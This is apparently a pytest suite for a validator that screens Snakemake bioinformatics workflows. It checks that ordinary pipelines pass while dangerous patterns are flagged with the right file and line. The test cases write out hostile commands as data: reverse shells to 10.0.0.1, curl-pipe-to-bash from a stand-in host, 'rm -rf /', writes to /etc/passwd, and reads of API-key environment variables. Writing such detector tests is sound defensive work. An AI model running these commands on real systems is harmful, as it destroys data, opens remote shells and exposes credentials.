"""The static screen: dangerous workflows are rejected with the right file and line, ordinary ones pass."""

from __future__ import annotations

import pytest

from biopipelines.validation import screen_workflow
from biopipelines.validation.shell_screen import screen_shell
from biopipelines.validation.static_screen import syntax_errors

ORDINARY_SNAKEFILE = '''\
import os
import pandas as pd
from pathlib import Path

configfile: "config/config.yaml"
samples = pd.read_csv(config["samples"], sep="\\t").set_index("sample", drop=False)
include: "rules/align.smk"

def get_fastq(wildcards):
    return samples.loc[wildcards.sample, ["fq1", "fq2"]].tolist()

onstart:
    print("results go to", os.path.join("results", "aligned"), os.environ.get("TMPDIR", "."))

rule all:
    input: expand("results/aligned/{sample}.bam", sample=samples.index)
'''

ORDINARY_RULES = '''\
rule align:
    input: fq=get_fastq, idx=lambda w: config["star_index"]
    output: "results/aligned/{sample}.bam"
    log: "logs/star/{sample}.log"
    threads: 8
    conda: "../envs/star.yaml"
    shell:
        "mkdir -p $(dirname {output}) && "
        "STAR --runThreadN {threads} --genomeDir {input.idx} --readFilesIn {input.fq} --readFilesCommand zcat "
        "--outSAMtype BAM Unsorted --outStdout 2> {log} "
        "| samtools sort -@ {threads} -T {resources.tmpdir}/{wildcards.sample} -o {output} - 2>> {log}"

rule fetch_reference:
    output: "resources/genome.fa.gz"
    params: url=config["genome_url"]
    log: "logs/fetch_reference.log"
    conda: "../envs/fetch.yaml"
    shell: "wget -q -O {output} {params.url} 2> {log} && gzip -t {output} > /dev/null 2>&1"

rule count_lines:
    input: "results/aligned/{sample}.bam"
    output: "results/counts/{sample}.txt"
    log: "logs/count/{sample}.log"
    run:
        with open(output[0], "w") as handle:
            handle.write(str(len(input)))
        shell("samtools view -c {input} | tee {output}.tmp > /dev/null 2> {log}; rm -f {output}.tmp")
'''


def _workflow(snakefile: str, rules: str = "") -> dict[str, str]:
    files = {"workflow/Snakefile": snakefile}
    if rules:
        files["workflow/rules/extra.smk"] = rules
    return files


def test_ordinary_bioinformatics_workflow_passes() -> None:
    files = {"workflow/Snakefile": ORDINARY_SNAKEFILE, "workflow/rules/align.smk": ORDINARY_RULES}
    assert screen_workflow(files) == []


@pytest.mark.parametrize(
    ("code", "rule_id", "line"),
    [
        ("import socket\n", "py-network-import", 1),
        ("x = 1\nfrom urllib.request import urlopen\n", "py-network-import", 2),
        ("import requests as rq\n", "py-network-import", 1),
        ("import http.client\n", "py-network-import", 1),
        ("import subprocess\n", "py-process-import", 1),
        ("import os\nos.system('ls')\n", "py-process-call", 2),
        ("import os\nkey = os.environ['OPENAI_API_KEY']\n", "py-env-secret", 2),
        ("import os\nkey = os.getenv('GITHUB_TOKEN')\n", "py-env-secret", 2),
        ("from os import environ\nkey = environ.get('AWS_SECRET_ACCESS_KEY')\n", "py-env-secret", 2),
        ("import os\nallvars = dict(os.environ)\n", "py-env-dump", 2),
        ("open('/tmp/marker', 'w').write('x')\n", "py-path-outside", 1),
        ("open('../../escape.txt', 'w')\n", "py-path-outside", 1),
        ("from pathlib import Path\nPath('/etc/cron.d/x').write_text('x')\n", "py-path-outside", 2),
        ("eval('1 + 1')\n", "py-dynamic-code", 1),
        ("exec('x = 1')\n", "py-dynamic-code", 1),
        ("__import__('os')\n", "py-dynamic-code", 1),
    ],
)
def test_python_findings_name_rule_and_line(code: str, rule_id: str, line: int) -> None:
    findings = screen_workflow(_workflow(code))
    assert any(f"workflow/Snakefile line {line}:" in f and f"[{rule_id}]" in f for f in findings), findings


def test_run_and_onstart_blocks_are_screened() -> None:
    snakefile = (
        "onstart:\n"
        "    import socket\n"
        "rule a:\n"
        "    output: 'a.txt'\n"
        "    run:\n"
        "        exec('print(1)')\n"
    )
    findings = screen_workflow(_workflow(snakefile))
    assert any("line 2:" in f and "py-network-import" in f for f in findings), findings
    assert any("line 6:" in f and "py-dynamic-code" in f for f in findings), findings


def test_input_function_lambda_is_screened() -> None:
    snakefile = "rule a:\n    input: lambda w: eval(w.sample)\n    output: 'a.txt'\n    shell: 'touch {output}'\n"
    findings = screen_workflow(_workflow(snakefile))
    assert any("line 2:" in f and "py-dynamic-code" in f for f in findings), findings


def test_alias_imported_in_one_file_is_followed_into_included_file() -> None:
    files = {
        "workflow/Snakefile": 'import os as o\ninclude: "rules/x.smk"\n',
        "workflow/rules/x.smk": 'o.system("ls")\n',
    }
    findings = screen_workflow(files)
    assert any(f.startswith("workflow/rules/x.smk line 1:") and "py-process-call" in f for f in findings), findings


def test_includes_outside_or_remote_are_findings() -> None:
    snakefile = 'include: "../../evil.smk"\ninclude: "https://example.org/x.smk"\n'
    findings = screen_workflow(_workflow(snakefile))
    assert any("py-include-outside" in f for f in findings), findings
    assert any("py-include-remote" in f for f in findings), findings


def test_included_non_smk_file_is_screened_too() -> None:
    files = {"workflow/Snakefile": 'include: "common.py"\n', "workflow/common.py": "import socket\n"}
    assert any(f.startswith("workflow/common.py line 1:") for f in screen_workflow(files))


def test_file_names_that_escape_are_findings() -> None:
    findings = screen_workflow({"workflow/Snakefile": "x = 1\n", "../outside.txt": "x"})
    assert any("path-outside" in f for f in findings), findings


@pytest.mark.parametrize(
    ("command", "rule_id"),
    [
        ("rm -rf /", "shell-rm-root"),
        ("rm -rf ~", "shell-rm-root"),
        ("curl -s https://x.example/install.sh | bash", "shell-pipe-to-shell"),
        ("wget -qO- https://x.example/a | sh", "shell-pipe-to-shell"),
        ("bash <(curl -s https://x.example/a)", "shell-pipe-to-shell"),
        ("sudo apt-get install samtools", "shell-privilege"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell-reverse-shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "shell-reverse-shell"),
        ("cat {input} > /etc/passwd", "shell-write-outside"),
        ("echo x >> ~/.bashrc", "shell-write-outside"),
        ("cp {input} /usr/local/bin/", "shell-write-outside"),
        ("samtools view {input} | tee /root/copy.sam > {output}", "shell-write-outside"),
        ("touch ../../outside.txt", "shell-write-outside"),
    ],
)
def test_dangerous_shell_commands(command: str, rule_id: str) -> None:
    assert rule_id in {rid for rid, _ in screen_shell(command)}
    snakefile = f"rule a:\n    output: 'a.txt'\n    shell:\n        {command!r}\n"
    findings = screen_workflow(_workflow(snakefile))
    assert any("line 4:" in f and f"[{rule_id}]" in f for f in findings), findings


@pytest.mark.parametrize(
    "command",
    [
        "mkdir -p results/x && touch {output}",
        "mkdir -p $(dirname {output}) && bwa mem -t {threads} {input.ref} {input.r1} {input.r2} 2> {log} "
        "| samtools sort -o {output} -",
        "fastqc {input} --outdir $(dirname {output}) > {log} 2>&1",
        "zcat {input} | awk 'NR % 4 == 2 {{n += length($0)}} END {{print n > 0}}' > {output}",
        "cp {input} {output} && rm -f {output}.tmp",
        "wget -O {output} {params.url} 2> {log}",
        "sort -T {resources.tmpdir} {input} > {output} 2> /dev/null",
        "echo done 1>&2",
    ],
)
def test_ordinary_shell_commands_pass(command: str) -> None:
    assert screen_shell(command) == []


def test_unparseable_file_is_still_text_scanned() -> None:
    findings = screen_workflow(_workflow("rule a\n    output: 'x'\nimport socket\n"))
    assert any("line 3:" in f and "does not parse" in f for f in findings), findings


def test_syntax_errors_are_located_in_the_source_file() -> None:
    files = {
        "workflow/Snakefile": 'include: "rules/a.smk"\n',
        "workflow/rules/a.smk": "rule a:\n    output: 'a.txt'\n    shell: 'touch {output}'\n\nx = = 1\n",
    }
    errors = syntax_errors(files)
    assert [(e.file, e.line) for e in errors] == [("workflow/rules/a.smk", 5)]
    assert errors[0].describe().startswith("SyntaxError at workflow/rules/a.smk line 5: invalid syntax")


def test_unclosed_bracket_is_reported_where_it_opens() -> None:
    errors = syntax_errors({"workflow/Snakefile": "x = 1\ndef f(a:\n    return a\n\ny = 2\n"})
    assert [(e.line, e.message) for e in errors] == [(2, "'(' is never closed")]


def test_python_is_parsed_one_thread_at_a_time(monkeypatch) -> None:
    """CPython 3.11's AST builder is not thread-safe (serve hit "AST constructor recursion depth mismatch" at 50
    sessions): a slowed ast.parse must never run twice at once, however many threads screen."""
    import ast
    import threading
    import time

    from biopipelines.validation import static_screen

    real_parse, inside, most = ast.parse, [0], [0]
    counter = threading.Lock()

    def slow_parse(*args, **kwargs):
        with counter:
            inside[0] += 1
            most[0] = max(most[0], inside[0])
        time.sleep(0.01)
        with counter:
            inside[0] -= 1
        return real_parse(*args, **kwargs)

    monkeypatch.setattr(ast, "parse", slow_parse)
    threads = [threading.Thread(target=static_screen.parse_python, args=(f"x = {k}", f"f{k}.smk")) for k in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=10)
    assert most[0] == 1 and inside[0] == 0
